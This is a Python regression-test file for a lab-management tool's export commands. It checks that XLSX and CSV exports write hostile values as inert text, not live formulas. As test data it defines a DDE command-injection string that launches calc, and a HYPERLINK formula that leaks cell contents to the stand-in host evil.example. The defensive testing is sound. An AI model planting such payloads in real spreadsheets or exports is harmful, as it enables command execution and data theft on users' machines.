"""Issue 21 (1): every exported cell is data — no export writes a live formula.

Regression tests: before `labdesk.core.cells`, a library row named ``=cmd|' /C calc'!A0``
was written by `standards export --out x.xlsx` as a formula cell, `summary --xlsx` did the
same with an enterprise named ``=HYPERLINK(…)``, and CSV exports wrote such cells verbatim.
"""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest

from labdesk.cli import main
from labdesk.core.library_io import load_library, load_library_csv, sample_library_path
from labdesk.services import enterprises, library, samples
from labdesk.services.exports import write_table
from labdesk.services.summary import centre_summary, summary_tables
from tests.reports.lab import SAMPLING_DAY, make_lab

CMD = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A centre whose library has an item named CMD and an enterprise named LINK."""
    folder = tmp_path_factory.mktemp("hostile")
    lines = sample_library_path().read_text(encoding="utf-8-sig").splitlines()
    # Row 2 is 芸薹类蔬菜 铅: its English name becomes the attack.
    header = next(csv.reader([lines[0]]))
    row = next(csv.reader([lines[1]]))
    row[header.index("item_name_en")] = CMD
    hostile = folder / "hostile-library.csv"
    with hostile.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerow(row)
        for line in lines[2:]:
            writer.writerow(next(csv.reader([line])))
    path = folder / "lab.sqlite"
    lab = make_lab(path)
    try:
        library.import_library(lab.admin, load_library_csv(hostile))
        fresh = _valid_code()
        enterprises.register_enterprise(lab.tech, enterprises.EnterpriseForm(fresh, LINK))
        samples.register_sample(
            lab.tech,
            samples.SampleForm(
                sample_no="S-LINK",
                sample_name="小白菜",
                category_code="VEG-BRASSICA",
                sampling_date=SAMPLING_DAY,
                enterprise_uscc=fresh,
                task_no="T-2026-01",
                samplers=["赵六", "钱七"],
                sealed=True,
                unit_acknowledged=True,
            ),
        )
    finally:
        lab.db.close()
    return path


def _valid_code() -> str:
    from labdesk.core.uscc import make_uscc, org_code_check_digit

    body = "MA2N0LNK"
    return make_uscc(f"91340100{body}{org_code_check_digit(body)}")


def _cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_standards_export_xlsx_writes_the_attack_as_a_string_cell(
    hostile_db: Path, tmp_path: Path
) -> None:
    out = tmp_path / "x.xlsx"
    assert main(["--db", str(hostile_db), "standards", "export", "--out", str(out)]) == 0
    cells = _cells(out)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    hits = [c for c in cells if CMD in str(c.value or "")]
    assert hits and all(c.data_type == "s" and c.value == "'" + CMD for c in hits)
    # The export still imports back to the same library (the quote is undone on import).
    assert any(item.name_en == CMD for item in load_library(out).items)


def test_standards_export_csv_neutralises_the_attack(hostile_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "x.csv"
    assert main(["--db", str(hostile_db), "standards", "export", "--out", str(out)]) == 0
    with out.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert "'" + CMD in cells and CMD not in cells
    assert not [c for c in cells if c[:1] in ("=", "@", "\t", "\r")]
    assert any(item.name_en == CMD for item in load_library(out).items)


def test_summary_xlsx_writes_a_hostile_enterprise_name_as_text(
    hostile_db: Path, tmp_path: Path
) -> None:
    out = tmp_path / "s.xlsx"
    assert main(["--db", str(hostile_db), "summary", "--xlsx", str(out)]) == 0
    cells = _cells(out)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    hits = [c for c in cells if "HYPERLINK" in str(c.value or "")]
    assert hits and all(c.data_type == "s" and c.value == "'" + LINK for c in hits)
    counts = [c for c in cells if isinstance(c.value, int)]
    assert counts, "counts stay numbers"


def test_csv_tables_neutralise_every_formula_cell(hostile_db: Path, tmp_path: Path) -> None:
    from labdesk.store.db import open_reader

    db = open_reader(hostile_db)
    try:
        tables = summary_tables(centre_summary(db))
    finally:
        db.close()
    by_enterprise = next(t for t in tables if t.name == "按企业")
    out = write_table(tmp_path / "e.csv", by_enterprise)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert "'" + LINK in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
